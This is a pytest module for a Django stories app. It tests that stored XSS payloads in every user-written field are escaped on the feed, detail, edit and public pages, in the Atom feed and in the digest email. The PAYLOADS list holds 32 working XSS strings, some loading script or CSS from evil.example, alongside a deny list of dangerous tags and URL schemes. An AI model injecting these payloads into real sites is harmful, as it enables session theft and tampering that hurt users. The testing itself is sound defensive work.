"""Stored XSS: nothing a person writes in a story runs as script, on any page that shows it.

Each payload goes into the title, the summary, the body, the agreement goal, the consent
field and a picture's alt text. Every page that shows story text is fetched and parsed:
no element, attribute or URL that can run script may come from the payload.
"""

from __future__ import annotations

import re
import xml.etree.ElementTree as ET
from html.parser import HTMLParser

import pytest
from django.core import mail
from django.urls import reverse
from django.utils import timezone

from stories.models import Follow, Story
from stories.rendering import render_story_body
from stories.services import digest_prepare_week, digest_send, iso_week_label
from tests.stories.helpers import make_story

pytestmark = pytest.mark.django_db

PAYLOADS = [
    "<script>alert('xss1')</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=\"alert('xss3')\">",
    "<svg onload=alert('xss4')>",
    "<svg><script>alert('xss5')</script></svg>",
    "<body onload=alert('xss6')>",
    "<iframe src=\"javascript:alert('xss7')\"></iframe>",
    "[click](javascript:alert('xss8'))",
    "[click](JaVaScRiPt:alert('xss9'))",
    "[click](java\tscript:alert('xss10'))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "<a href=\"data:text/html,<script>alert('xss12')</script>\">x</a>",
    "<a href=\"javascript&colon;alert('xss13')\">x</a>",
    "[x](&#106;avascript:alert('xss14'))",
    "![x](javascript:alert('xss15'))",
    "<div style=\"background:url(javascript:alert('xss16'))\">x</div>",
    "<style>@import 'http://evil.example/x.css';</style>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert('xss18')>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert('xss19')>\">",
    "<form action=\"javascript:alert('xss20')\"><button>go</button></form>",
    "<object data=\"javascript:alert('xss21')\"></object>",
    "<embed src=\"javascript:alert('xss22')\">",
    "<details open ontoggle=alert('xss23')>",
    '<a href="https://ok.example" onclick="alert(\'xss24\')">ok</a>',
    "<base href=\"javascript:alert('xss25')//\">",
    '<meta http-equiv="refresh" content="0;url=javascript:alert(\'xss26\')">',
    "<input autofocus onfocus=alert('xss27')>",
    "<<script>script>alert('xss28')<</script>/script>",
    "<!--<img src=\"--><img src=x onerror=alert('xss29')//\">",
    "<a href='vbscript:msgbox(\"xss30\")'>x</a>",
    '"><script>alert("xss31")</script>',
    '<svg><a xlink:href="javascript:alert(\'xss32\')"><text x="20" y="20">x</text></a></svg>',
]

DANGEROUS_TAGS = {
    "script",
    "iframe",
    "object",
    "embed",
    "svg",
    "math",
    "style",
    "base",
    "details",
    "body",
    "noscript",
    "frame",
    "frameset",
    "applet",
}
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "data", "xlink:href", "poster", "background", "content"}
BAD_SCHEME = re.compile(r"^\s*(javascript|vbscript|data)\s*:", re.IGNORECASE)


class Inspector(HTMLParser):
    """Collects every start tag the browser would build, with its attributes."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str | None]]] = []

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))

    handle_startendtag = handle_starttag


def assert_no_script_from_payload(html: str, page: str) -> None:
    inspector = Inspector()
    inspector.feed(html)
    for tag, attrs in inspector.tags:
        # The page's own: scripts from /static/ and the <body> that carries htmx's CSRF header.
        own_script = tag == "script" and set(attrs) == {"src"} and attrs["src"].startswith("/static/")
        own_body = tag == "body" and set(attrs) <= {"hx-headers"}
        if tag in DANGEROUS_TAGS and not (own_script or own_body):
            pytest.fail(f"{page}: a <{tag}> element came through: {attrs}")
        for name, value in attrs.items():
            if name.startswith("on"):
                pytest.fail(f"{page}: <{tag} {name}=…> came through")
            if name == "style":
                pytest.fail(f"{page}: a style attribute came through on <{tag}>")
            plain_meta = tag == "meta" and name == "content" and "http-equiv" not in attrs
            script_url = bool(value) and BAD_SCHEME.match(value.replace("\t", "").replace("\n", ""))
            if name in URL_ATTRIBUTES and script_url and not plain_meta:
                pytest.fail(f"{page}: <{tag} {name}={value!r}>")
        if tag == "meta" and (attrs.get("http-equiv") or "").lower() == "refresh":
            pytest.fail(f"{page}: a meta refresh came through")
        # Links people write carry rel="noopener noreferrer nofollow".
        if attrs.get("href", "").startswith("https://ok.example") and "nofollow" not in (attrs.get("rel") or ""):
            pytest.fail(f"{page}: a user link without rel=nofollow")


@pytest.fixture
def hostile_stories(org):
    stories = []
    for index, payload in enumerate(PAYLOADS):
        story = make_story(
            org.workplace,
            org.employee,
            visibility="public",
            title=f"T{index} {payload}"[:160],
            summary=f"S{index} {payload}"[:300],
            body=f"Start {index}\n\n{payload}\n\nInline {payload} end",
            related_goal=payload[:200],
            picture=True,
            shows_people=True,
            consent_given_by=payload[:200],
            consent_date=timezone.localdate(),
        )
        story.pictures.update(alt_text=payload[:250])
        stories.append(story)
    return stories


def test_there_are_at_least_twenty_payloads():
    assert len(PAYLOADS) >= 20


@pytest.mark.parametrize("payload", PAYLOADS)
def test_the_renderer_neutralises_the_payload(payload):
    assert_no_script_from_payload(str(render_story_body(f"text\n\n{payload}\n\n{payload} inline")), payload)


def test_every_page_that_shows_story_text_neutralises_every_payload(org, client_for, hostile_stories):
    member, leader, anonymous = client_for(org.member), client_for(org.leader), client_for(None)
    pages = {
        "feed": member.get(reverse("stories:feed") + "?tab=all"),
        "public list": anonymous.get(reverse("stories:public")),
        "mine": leader.get(reverse("stories:mine")),
    }
    for story in hostile_stories:
        pages[f"detail {story.pk}"] = member.get(story.get_absolute_url())
        pages[f"leader detail {story.pk}"] = leader.get(story.get_absolute_url())
        pages[f"public {story.pk}"] = anonymous.get(story.get_public_url())
        pages[f"edit {story.pk}"] = leader.get(reverse("stories:edit", args=[story.pk]))
        pages[f"thanks {story.pk}"] = member.post(
            reverse("stories:thank", args=[story.pk]), headers={"HX-Request": "true"}
        )
    for name, response in pages.items():
        assert response.status_code == 200, name
        html = response.content.decode()
        assert_no_script_from_payload(html, name)
    # The payload text is shown, escaped, so people see what was written.
    assert "&lt;script&gt;alert(" in pages["feed"].content.decode()


def test_the_atom_feed_carries_the_payloads_as_text(client_for, hostile_stories):
    response = client_for(None).get(reverse("stories:atom"))
    body = response.content.decode()
    for marker in ("<script", "<svg", "<img", "<iframe", "<style"):
        assert marker not in body.lower()
    root = ET.fromstring(response.content)
    # Atom readers treat <summary type="html"> as HTML: after XML decoding it must still
    # be harmless HTML.
    for summary in root.iter("{http://www.w3.org/2005/Atom}summary"):
        assert summary.get("type") == "html"
        assert_no_script_from_payload(summary.text or "", "atom summary")
    titles = [
        entry.findtext("{http://www.w3.org/2005/Atom}title")
        for entry in root.iter("{http://www.w3.org/2005/Atom}entry")
    ]
    assert "T0 <script>alert('xss1')</script>" in titles


def test_the_digest_email_escapes_the_payloads(org, hostile_stories):
    Follow.objects.create(person=org.member, workplace=org.workplace)
    week = iso_week_label(timezone.localdate())
    for outbox_id in digest_prepare_week(week=week):
        digest_send(outbox_id=outbox_id)
    message = mail.outbox[0]
    html = message.alternatives[0][0]
    assert_no_script_from_payload(html, "digest html")
    assert Story.objects.count() == len(PAYLOADS)
